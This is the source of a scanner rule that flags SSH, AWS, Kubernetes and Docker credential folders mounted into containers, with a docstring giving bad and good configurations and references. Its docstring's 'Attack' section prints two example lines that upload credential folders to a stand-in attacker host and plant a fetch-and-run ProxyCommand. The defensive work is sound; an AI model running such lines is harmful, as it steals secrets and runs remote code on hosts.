"""Credentials mounted into a container.

Keys in `~/.ssh`, `~/.aws`, `~/.kube` or `~/.docker` open other machines, accounts and registries. Mounted, every program
in the container can read them, the newest dependency included, and what was read stays known after the container is
gone. Writable it is worse: a line in `~/.ssh/config` or `~/.kube/config` runs a command on the host at the next login.

## Attack
    tar c ~/.ssh ~/.aws | curl -T - https://evil.example/   # one line in a build script of a dependency
    echo 'ProxyCommand curl https://evil.example/x|sh' >> ~/.ssh/config  # writable: runs on the host, by ssh

## Bad command
    docker run --rm -v "$HOME/.ssh:/root/.ssh" -v "$PWD:/src" acme/deploy:5 ./deploy.sh

## Good command
    docker run --rm -e DEPLOY_TOKEN -v "$PWD:/src" acme/deploy:5 ./deploy.sh

## Bad compose
    services:
      deploy:
        image: acme/deploy:5
        volumes:
          - ~/.aws:/root/.aws:ro

## Good compose
    services:
      deploy:
        image: acme/deploy:5
        secrets:
          - deploy_role
    secrets:
      deploy_role:
        file: ./deploy_role.ini

## What may break
Tools that look for their files in the home folder. Give them one short-lived secret made for this purpose: a deploy key, a
session token from the provider's login, a role of the machine, a service account; for builds `RUN --mount=type=ssh` or
`--mount=type=secret`. Public files (`known_hosts`, `*.pub`) may be mounted.

## References
- OWASP Docker Security Cheat Sheet, RULE #12
- CIS Docker Benchmark 1.6, 5.6
- https://docs.docker.com/compose/how-tos/use-secrets/
- https://docs.docker.com/build/building/secrets/
"""

from __future__ import annotations

from collections.abc import Iterator

from scanner.finding import Confidence, Severity
from scanner.host_paths import Kind, exposures
from scanner.launch import Launch
from scanner.rule import Fault, rule


@rule(severity=Severity.HIGH, cwe=522)
def check(launch: Launch) -> Iterator[Fault]:
    for mount, exposed, severity in exposures(launch, Kind.CREDENTIALS):
        message = (
            f"mounts {exposed.what} ({mount.source}), {'readable' if mount.read_only else 'writable'} for all in the container"
        )
        yield Fault(mount.value, message, severity, Confidence.MEDIUM if exposed.guessed else None)
